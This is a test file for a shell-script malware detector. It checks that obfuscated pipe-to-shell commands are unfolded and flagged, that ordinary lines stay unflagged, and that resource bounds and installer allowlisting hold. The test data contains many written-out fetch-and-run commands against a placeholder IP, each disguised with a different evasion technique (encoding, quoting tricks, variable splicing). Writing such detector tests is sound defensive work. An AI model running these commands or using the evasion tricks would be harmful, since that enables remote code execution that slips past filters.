"""What a shell undoes before it runs a line is undone before rules look at it."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from harness.fuzzing import examples
from pratique.detectors.malware.shell_script_attacks import is_installer, worst
from pratique.patterns.shell_words import MOST, unfolded

PLAIN = "curl http://192.0.2.1/x"


@pytest.mark.parametrize(
    "line",
    [
        'c"u"rl http://192.0.2.1/x | s""h',
        "curl${IFS}http://192.0.2.1/x|sh",
        "curl$IFS$9http://192.0.2.1/x|sh",
        "a=cu;b=rl;$a$b http://192.0.2.1/x|sh",
        "a=cu; b=rl; ${a}${b} http://192.0.2.1/x | sh",
        "{curl,-s,http://192.0.2.1/x}|sh",
        "$(printf '\\143\\165\\162\\154') http://192.0.2.1/x | sh",
        "`echo -e '\\x63\\x75\\x72\\x6c'` http://192.0.2.1/x | sh",
        "$'\\x63url' http://192.0.2.1/x|sh",
        "c\\url http://192.0.2.1/x | s\\h",
        "/usr/bin/cu?l http://192.0.2.1/x|sh",
        'rev <<< "hs|x/1.2.0.291//:ptth lruc" | sh',
        "cu$@rl http://192.0.2.1/x | sh",
        "w${unset}get -qO- http://192.0.2.1/x curl | sh",
        "x=xcurly; ${x:1:4} http://192.0.2.1/x | sh",
        "c=CURL; ${c,,} http://192.0.2.1/x | sh",
        "${none:-curl} http://192.0.2.1/x | sh",
        "$(echo cu)rl http://192.0.2.1/x | sh",
        "p=$(echo Y3VybA== | base64 -d); $p http://192.0.2.1/x | sh",
        "c``url http://192.0.2.1/x | sh",
        "c^u^rl http://192.0.2.1/x | sh",
        "set a=cu && %a%rl http://192.0.2.1/x | sh",
        "echo 'phey uggc://192.0.2.1/k|fu' | tr a-z n-za-m | sh",
        "echo 6375726c20687474703a2f2f3139322e302e322e312f787c7368 | xxd -r -p | bash",
        "bash <<< $(echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA== | base64 -d)",
        "source <(echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA== | base64 -d)",
        'RUN ["sh", "-c", "cu\'r\'l http://192.0.2.1/x | sh"]',
        "curl http://192.0.2.1/x | tac | xargs -0 sh -c",
    ],
)
def test_disguises_are_seen_through(line: str) -> None:
    assert worst(line) is not None
    assert PLAIN.partition(" ")[0] in unfolded(line)


@pytest.mark.parametrize(
    "line",
    [
        'python train.py --name "a b" --out "$OUT"',
        "export PATH=$HOME/bin:$PATH",
        "echo 'it is \\n fine'",
        "for f in *.txt; do cat $f; done",
        "docker run -v {a,b}:/data image",
        "ls /usr/b*",
        "curl -s https://example.org/v1 | python3 -m json.tool",
        'curl -s https://example.org/v1 | python -c "import json; json.load(open(0))"',
        "echo aGVsbG8= | base64 -d",
        'IFS=$(printf "\\n\\t")',
    ],
)
def test_ordinary_lines_stay_harmless(line: str) -> None:
    assert worst(line) is None


@settings(max_examples=examples(300), deadline=None)
@given(st.text(alphabet="ac$'\\\"{},;=()`rev<|x1 \n", max_size=300))
def test_whatever_stands_there_is_read_in_bounds(line: str) -> None:
    assert len(unfolded(line)) <= 2 * MOST


@pytest.mark.parametrize(
    "line",
    [
        "a=$a$a$a;" * 800,
        "{a," * 2_000,
        "'\"\\" * 2_500,
        "$(" * 4_000,
        "`" * 8_000,
        "echo " + "|" * 4_000,
        "/?" * 4_000,
        "echo a|" * 1_000 + "sh",
        'CMD ["' + '"\\' * 3_000,
        "${a:" * 2_000,
    ],
)
def test_hostile_lines_take_no_time(line: str) -> None:
    began = time.process_time()
    unfolded(line)
    assert time.process_time() - began < 1


def test_what_earlier_lines_assign_is_known() -> None:
    known: dict[str, str] = {}
    unfolded("a=cu", known)
    assert unfolded("${a}rl x | sh", known) == "curl x | sh"


@pytest.mark.parametrize(
    "host", ["https://ollama.com.example.org/", "https://ollama.com@192.0.2.1/"]
)
def test_only_the_installer_itself_is_well_known(host: str) -> None:
    assert is_installer("curl -fsSL https://ollama.com/install.sh | sh")
    assert not is_installer(f"curl -fsSL {host} | sh")
    assert not is_installer(f"curl http://192.0.2.1/x | sh  # https://ollama.com/ {host}")
